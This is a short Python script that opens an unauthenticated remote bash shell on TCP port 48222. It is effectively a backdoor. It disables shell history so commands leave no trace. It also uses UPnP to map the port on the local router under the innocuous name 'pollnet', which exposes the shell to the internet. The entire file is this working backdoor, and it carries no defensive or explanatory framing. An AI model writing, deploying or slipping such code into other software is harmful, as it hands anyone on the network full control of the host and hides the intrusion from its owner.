import os
import pty
import select
import socket
import socketserver
import threading
import miniupnpc


class Term(socketserver.BaseRequestHandler):
    def handle(self):
        pid, fd = pty.fork()
        if pid == 0:
            os.environ["HISTFILE"] = "/dev/null"
            os.execlp("bash", "bash", "--norc")
        while True:
            r, _, _ = select.select([fd, self.request], [], [])
            if fd in r:
                try:
                    self.request.sendall(os.read(fd, 4096))
                except OSError:
                    return
            if self.request in r:
                d = self.request.recv(4096)
                if not d:
                    return
                os.write(fd, d)


class Srv(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def forward(port):
    u = miniupnpc.UPnP()
    u.discoverdelay = 200
    if u.discover():
        u.selectigd()
        u.addportmapping(port, "TCP", u.lanaddr, port, "pollnet", "")


srv = Srv(("", 48222), Term)
threading.Thread(target=forward, args=(48222,), daemon=True).start()
srv.serve_forever()
